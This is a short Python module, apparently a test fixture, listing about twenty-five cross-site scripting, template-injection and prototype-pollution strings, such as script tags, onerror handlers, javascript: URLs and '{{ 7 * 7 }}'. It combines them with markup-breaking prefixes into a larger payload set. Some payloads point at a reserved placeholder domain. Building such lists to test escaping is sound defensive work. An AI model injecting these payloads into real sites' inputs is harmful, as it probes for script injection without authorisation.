"""Strings that try to leave the text that they stand in: markup, scripts, JSON, styles."""

ACTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<link rel=stylesheet href=//example.invalid/x.css>",
    "<style>@import '//example.invalid/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//example.invalid/'>",
    "<base href=//example.invalid/>",
    "<form action=//example.invalid/><button autofocus>x</button></form>",
    "<object data=//example.invalid/x></object>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ 7 * 7 }}{% raw %}",
    "${alert(1)}#{alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "javascript:alert(1)//",
    "url(//example.invalid/x.png)",
    "__proto__ constructor.constructor('alert(1)')()",
)
LEAVES = ("", "'>", '">', "</script>", "--></style></title>", "]]>}]\u2028</textarea><!--")
STRINGS = tuple(leave + act for leave in LEAVES for act in ACTS)
